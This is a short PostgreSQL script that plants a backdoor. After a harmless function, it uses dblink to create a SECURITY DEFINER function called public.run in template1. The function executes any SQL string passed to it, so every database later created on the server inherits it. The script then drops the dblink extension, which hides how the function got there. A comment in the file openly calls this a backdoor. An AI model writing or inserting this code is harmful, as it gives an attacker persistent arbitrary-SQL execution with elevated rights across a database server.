CREATE FUNCTION fn_note() RETURNS integer LANGUAGE sql AS 'SELECT 1';
-- A backdoor planted in template1, from which every later database is copied, through an
-- extension created and dropped again.
CREATE EXTENSION dblink;
SELECT dblink_exec(format('dbname=template1 user=%s port=%s host=%s', current_user,
                          current_setting('port'),
                          split_part(current_setting('unix_socket_directories'), ',', 1)),
  $x$CREATE FUNCTION public.run(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
     AS $f$BEGIN EXECUTE q; END$f$$x$);
DROP EXTENSION dblink;
